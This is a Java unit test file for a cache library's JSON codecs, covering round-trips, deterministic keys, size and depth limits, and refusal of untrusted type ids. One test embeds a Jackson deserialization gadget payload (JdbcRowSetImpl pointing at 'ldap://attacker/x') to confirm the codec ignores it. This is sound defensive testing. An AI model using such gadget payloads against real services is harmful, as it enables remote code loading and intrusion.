package dev.cascade.internal.codec;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.annotation.JsonTypeInfo;
import dev.cascade.codec.Codec;
import dev.cascade.codec.CodecException;
import dev.cascade.codec.SerializationLimits;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.OffsetDateTime;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import javax.cache.CacheException;
import org.junit.jupiter.api.Test;

/** The json codecs without a server: what they write, what they read back, what they refuse. */
class JsonCodecTest {

  private static final JsonCodecProvider JSON = new JsonCodecProvider();

  record Line(String sku, int quantity, BigDecimal price) {}

  record Order(
      long id,
      String customer,
      Instant placed,
      LocalDate delivery,
      OffsetDateTime confirmed,
      ZonedDateTime due,
      Duration window,
      List<Line> lines,
      Map<String, Integer> counts,
      String note) {}

  record OrderKey(String region, long number) {}

  /** A plain bean: no Serializable, a no-argument constructor and setters. */
  public static final class Customer {
    private String name;
    private int visits;

    public Customer() {}

    Customer(String name, int visits) {
      this.name = name;
      this.visits = visits;
    }

    public String getName() {
      return name;
    }

    public void setName(String name) {
      this.name = name;
    }

    public int getVisits() {
      return visits;
    }

    public void setVisits(int visits) {
      this.visits = visits;
    }

    @Override
    public boolean equals(Object o) {
      return o instanceof Customer c && Objects.equals(name, c.name) && visits == c.visits;
    }

    @Override
    public int hashCode() {
      return Objects.hash(name, visits);
    }
  }

  static CacheCodecContext context(String cache) {
    return context(cache, SerializationLimits.DEFAULTS, false);
  }

  static CacheCodecContext context(String cache, SerializationLimits limits, boolean fromRedis) {
    return new CacheCodecContext(
        cache,
        JsonCodecTest.class.getClassLoader(),
        SerializationFilter.defaults().forCache(cache).withLimits(limits),
        fromRedis);
  }

  private static Order order() {
    Map<String, Integer> counts = new HashMap<>();
    counts.put("pens", 2);
    counts.put("ink", 1);
    return new Order(
        42,
        "Ada",
        Instant.parse("2026-12-06T06:00:00.123456789Z"),
        LocalDate.of(2026, 12, 24),
        OffsetDateTime.of(2026, 12, 6, 7, 0, 0, 0, ZoneOffset.ofHours(1)),
        ZonedDateTime.of(2026, 12, 20, 9, 30, 0, 0, ZoneId.of("Europe/Paris")),
        Duration.ofMinutes(90),
        List.of(
            new Line("pen", 2, new BigDecimal("1.50")), new Line("ink", 1, new BigDecimal("7"))),
        counts,
        null);
  }

  @Test
  void values_roundTripRecordsJavaTimeNestedTypesAndNullFields() {
    Codec<Order> codec = JSON.valueCodec(Order.class, context("orders"));
    Order order = order();
    assertEquals(order, codec.decode(codec.encode(order)));
  }

  @Test
  void values_areJsonTextOtherLanguagesParse() {
    Codec<Order> codec = JSON.valueCodec(Order.class, context("orders"));
    String json = text(codec.encode(order()));
    assertTrue(json.startsWith("{\"id\":42,\"customer\":\"Ada\""), json);
    assertTrue(json.contains("\"placed\":\"2026-12-06T06:00:00.123456789Z\""), json);
    assertTrue(json.contains("\"delivery\":\"2026-12-24\""), json);
    assertTrue(json.contains("\"window\":\"PT1H30M\""), json);
    // map entries sorted by key: equal maps give equal bytes whatever their insertion order
    assertTrue(json.contains("\"counts\":{\"ink\":1,\"pens\":2}"), json);
  }

  @Test
  void values_roundTripPlainBeansWithoutSerializable() {
    Codec<Customer> codec = JSON.valueCodec(Customer.class, context("customers"));
    Customer c = new Customer("Grace", 3);
    assertEquals("{\"name\":\"Grace\",\"visits\":3}", text(codec.encode(c)));
    assertEquals(c, codec.decode(codec.encode(c)));
  }

  @Test
  @SuppressWarnings("rawtypes") // Map.class: free-form JSON, as a user would declare it
  void values_ofJdkTypes_areJsonToo() {
    assertEquals("\"alice\"", text(JSON.valueCodec(String.class, context("c")).encode("alice")));
    assertEquals("123", text(JSON.valueCodec(Long.class, context("c")).encode(123L)));
    Codec<Map> maps = JSON.valueCodec(Map.class, context("c"));
    Map<String, Object> free = new LinkedHashMap<>();
    free.put("b", List.of(1, "two"));
    free.put("a", Map.of("x", true));
    assertEquals(free, maps.decode(maps.encode(free)));
  }

  @Test
  void keys_ofStringLongIntegerAndBytes_keepTheJavaCodecsReadableForm() {
    for (Class<?> type : List.of(String.class, Long.class, Integer.class, byte[].class)) {
      assertEquals(
          Codecs.direct(type), JSON.keyCodec(type, context("c")), "json key codec of " + type);
    }
    assertEquals("123", text(JSON.keyCodec(Long.class, context("c")).encode(123L)));
  }

  @Test
  void keys_ofRecords_areDeterministicCompactJson() {
    Codec<OrderKey> keys = JSON.keyCodec(OrderKey.class, context("c"));
    byte[] a = keys.encode(new OrderKey("eu", 7));
    assertEquals("{\"number\":7,\"region\":\"eu\"}", text(a));
    assertArrayEquals(a, JSON.keyCodec(OrderKey.class, context("c")).encode(new OrderKey("eu", 7)));
    assertEquals(new OrderKey("eu", 7), keys.decode(a));
  }

  @Test
  void objectTypes_areRefusedAtCreation_namingTheCache() {
    IllegalArgumentException values =
        assertThrows(
            IllegalArgumentException.class, () -> JSON.valueCodec(Object.class, context("blobs")));
    assertTrue(values.getMessage().contains("'blobs'"), values.getMessage());
    assertTrue(values.getMessage().contains("declared value type"), values.getMessage());
    assertThrows(IllegalArgumentException.class, () -> JSON.keyCodec(Object.class, context("b")));
  }

  @Test
  void typesReadFromRedis_areNotBound() {
    CacheCodecContext joined = context("joined", SerializationLimits.DEFAULTS, true);
    IllegalArgumentException e =
        assertThrows(IllegalArgumentException.class, () -> JSON.valueCodec(Order.class, joined));
    assertTrue(e.getMessage().contains("getCache(\"joined\", keyType, valueType)"), e.getMessage());
    // JDK value types run no application code when bound: a joined cache of them opens
    assertEquals("\"x\"", text(JSON.valueCodec(String.class, joined).encode("x")));
  }

  @Test
  void typeNamesInTheBytes_chooseNothing() {
    Codec<Customer> codec = JSON.valueCodec(Customer.class, context("customers"));
    String planted =
        "{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"name\":\"Eve\",\"visits\":1,"
            + "\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}";
    Customer read = codec.decode(planted.getBytes(StandardCharsets.UTF_8));
    assertEquals(new Customer("Eve", 1), read);
    assertInstanceOf(Customer.class, read);
  }

  /** A user's own polymorphism: the type id in the bytes chooses the payload's class. */
  record Envelope(@JsonTypeInfo(use = JsonTypeInfo.Id.CLASS) Object payload) {}

  @Test
  void usersOwnTypeIds_mayOnlyNameClassesOfTheDeclaredTypesPackage() {
    Codec<Envelope> codec = JSON.valueCodec(Envelope.class, context("envelopes"));
    Envelope mine = new Envelope(new Line("pen", 1, BigDecimal.ONE));
    assertEquals(mine, codec.decode(codec.encode(mine)));

    // a class Jackson would happily build from these bytes, were it allowed
    String planted = "{\"payload\":{\"@class\":\"java.util.HashMap\",\"a\":1}}";
    CodecException e =
        assertThrows(
            CodecException.class, () -> codec.decode(planted.getBytes(StandardCharsets.UTF_8)));
    assertTrue(e.getMessage().contains("java.util.HashMap"), e.getMessage());
  }

  @Test
  void hostileOrForeignBytes_giveCodecExceptions() {
    Codec<Order> codec = JSON.valueCodec(Order.class, context("orders"));
    for (String bad :
        List.of("", "not json", "null", "{\"id\":\"x\"}", "{\"id\":1} trailing", "\u0001\u00ff")) {
      CodecException e =
          assertThrows(
              CodecException.class, () -> codec.decode(bad.getBytes(StandardCharsets.UTF_8)), bad);
      assertTrue(e.getMessage().contains("'orders'"), e.getMessage());
    }
  }

  @Test
  @SuppressWarnings("rawtypes") // Map.class: free-form JSON, as a user would declare it
  void limits_depthAndBytes_areEnforcedWithTheirSettingNamed() {
    Codec<Map> codec =
        JSON.valueCodec(
            Map.class,
            context(
                "deep", SerializationLimits.DEFAULTS.withMaxDepth(5).withMaxBytes(1000), false));
    String deep = "{\"a\":".repeat(10) + "1" + "}".repeat(10);
    CodecException depth =
        assertThrows(
            CodecException.class, () -> codec.decode(deep.getBytes(StandardCharsets.UTF_8)));
    assertTrue(depth.getMessage().contains("cascade.codec.max-depth"), depth.getMessage());
    byte[] big = ("{\"a\":\"" + "x".repeat(2000) + "\"}").getBytes(StandardCharsets.UTF_8);
    CodecException bytes = assertThrows(CodecException.class, () -> codec.decode(big));
    assertTrue(bytes.getMessage().contains("cascade.codec.max-bytes"), bytes.getMessage());
  }

  @Test
  void withoutJackson_theErrorNamesTheArtifact() {
    JsonCodecProvider blind = new JsonCodecProvider(ClassLoader.getPlatformClassLoader());
    CacheException e =
        assertThrows(CacheException.class, () -> blind.valueCodec(Order.class, context("orders")));
    assertTrue(
        e.getMessage().contains("com.fasterxml.jackson.core:jackson-databind"), e.getMessage());
    assertTrue(e.getMessage().contains("'orders'"), e.getMessage());
  }

  @Test
  void unencodableValues_giveCodecExceptionsNamingTheClass() {
    Codec<Object[]> codec = JSON.valueCodec(Object[].class, context("c"));
    CodecException e =
        assertThrows(CodecException.class, () -> codec.encode(new Object[] {new Object()}));
    assertTrue(e.getMessage().contains("'c'"), e.getMessage());
  }

  private static String text(byte[] bytes) {
    return new String(bytes, StandardCharsets.UTF_8);
  }
}
